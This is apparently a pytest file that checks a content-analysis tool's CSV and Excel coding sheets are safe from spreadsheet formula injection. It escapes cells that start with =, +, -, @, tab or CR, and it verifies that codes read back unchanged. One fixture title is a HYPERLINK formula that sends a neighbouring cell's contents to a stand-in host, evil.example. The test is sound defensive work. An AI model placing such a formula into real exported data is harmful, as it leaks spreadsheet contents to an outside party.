"""Coders' files are spreadsheet-safe: no corpus text becomes a formula, and codes read back unchanged."""

import openpyxl
import pandas as pd
import pytest

from analysis.report.writer import ReportWriter
from analysis.validation import coding_sheet, read_codes
from analysis.validation.examples import tiny_corpus
from analysis.validation.spreadsheet import read_coders_csv, restore_cell, safe_cell, write_coders_csv

HOSTILE = {  # title -> text, each starting with what a spreadsheet would run
    '=HYPERLINK("http://evil.example/?x="&C2,"Mehr über Kämpfe")': "=1+2 Soldaten greifen die Stadt an.",
    "+49 Soldaten an der Front": "+Raketen treffen die Stellungen in Kursk.",
    "-Flüchtlinge erreichen Österreich": "-Helfer versorgen Familien in Notquartieren.",
    "@Außenminister in Genf": "@Diplomaten fordern Verhandlungen.",
    "\tSchnee und Frost": "\tSturm bringt Glätte auf den Straßen.",
    "\rSturm in den Alpen": "\rDer Sturm bringt Regen und später Schnee.",
    "'=Zitat bleibt Zitat": "'+Grüße aus Kyjiw",
}
VARIABLES = {"sentiment": ["-1", "0", "+1"], "frame_militaer": ["ja", "nein"]}


@pytest.fixture
def written(tmp_path):
    corpus = tiny_corpus().head(len(HOSTILE)).assign(title=list(HOSTILE), text=list(HOSTILE.values()))
    sheet = coding_sheet(corpus, n=len(corpus), variables=VARIABLES, random_state=2)
    return sheet, sheet.write(tmp_path)


@pytest.mark.parametrize("text, escaped", [
    ("=SUMME(A1:A9)", "'=SUMME(A1:A9)"), ("+1", "'+1"), ("-1", "'-1"), ("@Kurier", "'@Kurier"),
    ("\tTab", "'\tTab"), ("\rCR", "'\rCR"), ("''-x", "'''-x"),
    ("Grüße", "Grüße"), ("Ukraine-Krieg", "Ukraine-Krieg"), ("'Zitat'", "'Zitat'"), ("", ""), (3, 3),
])
def test_safe_cell_prefixes_only_formula_starts_and_restores_losslessly(text, escaped):
    assert safe_cell(text) == escaped
    assert restore_cell(escaped) == text


def test_coding_sheet_xlsx_has_no_formula_and_keeps_the_text(written):
    sheet, paths = written
    book = openpyxl.load_workbook(paths["xlsx"])
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]
    assert cells and all(cell.data_type != "f" for cell in cells)
    codes = book["codes"]
    header = [c.value for c in codes[1]]
    titles = {codes.cell(row=r, column=header.index("title") + 1) for r in range(2, codes.max_row + 1)}
    assert {c.value for c in titles} == {t.replace("\r", "\n") for t in HOSTILE}  # XML reads a CR as LF
    assert all(c.data_type == "s" and c.quotePrefix == (c.value[0] in "=+-@\t\n") for c in titles)
    shown = pd.read_excel(paths["xlsx"], dtype=object)
    assert shown["title"].tolist() == sheet.sheet["title"].str.replace("\r", "\n").tolist()


def test_coders_csv_is_prefixed_and_key_and_tables_keep_the_original(written, tmp_path):
    sheet, paths = written
    raw = pd.read_csv(paths["csv"], dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert raw["title"].tolist() == ["'" + t for t in sheet.sheet["title"]]
    assert raw["text"].tolist() == ["'" + t for t in sheet.sheet["text"]]
    assert set(sheet.sheet["title"]) == set(HOSTILE)
    key = pd.read_csv(paths["key"], dtype=str, keep_default_na=False)
    assert next(iter(HOSTILE)) in set(key["title"])  # the researcher's key is data, not escaped
    writer = ReportWriter(tmp_path / "report")
    writer.table(sheet.key, "coded_documents", max_rows=None)
    assert set(pd.read_parquet(tmp_path / "report" / "tables" / "coded_documents.parquet")["title"]) == set(HOSTILE)


def test_filled_csv_and_xlsx_read_back_losslessly(written):
    sheet, paths = written
    back = read_coders_csv(paths["csv"], dtype=str, keep_default_na=False, encoding="utf-8-sig")
    pd.testing.assert_frame_equal(back, sheet.sheet, check_dtype=False)
    filled = sheet.sheet.assign(sentiment=["-1", "+1", "0", "-1", " +1", "0", "-1"],
                                frame_militaer=["ja", "nein", "", "JA", "nein", "ja", ""],
                                note=["=Ironie?", "@Redaktion prüfen", "", "-", "", "Grüße", "+"])
    write_coders_csv(filled, paths["csv"], encoding="utf-8-sig")  # a tool that keeps the escaping
    codes = read_codes(paths["csv"])
    assert codes["sentiment"].tolist() == ["-1", "+1", "0", "-1", "+1", "0", "-1"]
    assert codes["note"].fillna("").tolist() == ["=Ironie?", "@Redaktion prüfen", "", "-", "", "Grüße", "+"]
    assert codes["doc_id"].tolist() == sheet.key["doc_id"].tolist()

    book = openpyxl.load_workbook(paths["xlsx"])  # a coder filling the workbook
    codes_sheet = book["codes"]
    column = [c.value for c in codes_sheet[1]].index("sentiment") + 1
    for row, code in enumerate(["-1", "+1", "0", "-1", "+1", "0", "-1"], start=2):
        codes_sheet.cell(row=row, column=column).value = code
    book.save(paths["xlsx"])
    assert read_codes(paths["xlsx"])["sentiment"].tolist() == ["-1", "+1", "0", "-1", "+1", "0", "-1"]
